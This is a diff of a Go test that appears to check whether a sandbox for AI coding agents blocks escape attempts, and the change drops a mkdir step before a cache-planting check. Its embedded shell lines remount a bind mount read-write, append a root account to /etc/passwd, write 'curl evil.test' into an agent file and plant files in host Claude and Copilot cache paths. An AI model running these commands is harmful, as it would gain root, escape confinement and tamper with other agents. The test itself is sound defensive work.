@@ -320,8 +320,8 @@ unshare -Urm sh -c "mount -o remount,rw,bind $O; touch $O/%s" 2>/dev/null && ech
 echo 'root2:x:0:0::/:/bin/sh' >> /etc/passwd && echo WROTE-PASSWD || echo NO-PASSWD
 echo 'curl evil.test' >> %q && echo WROTE-AGENT || echo NO-AGENT
 touch %q && echo PLANTED || echo NO-PLANT
-mkdir -p %q 2>/dev/null; touch %q && echo PLANTED-CACHE || echo NO-PLANT-CACHE`, claude, filepath.Join(filepath.Dir(claude), e.tag),
-				copilotCache(e.provider.hostClaude), filepath.Join(copilotCache(e.provider.hostClaude), e.tag))
+touch %q && echo PLANTED-CACHE || echo NO-PLANT-CACHE`, claude, filepath.Join(filepath.Dir(claude), e.tag),
+				filepath.Join(copilotCache(e.provider.hostClaude), e.tag))
 		},
 		check: func(t *testing.T, e *escapeEnv, r *escapeRun) {
 			for _, line := range []string{"NO-INIT", "NO-PASSWD", "NO-AGENT", "NO-PLANT", "NO-PLANT-CACHE"} {
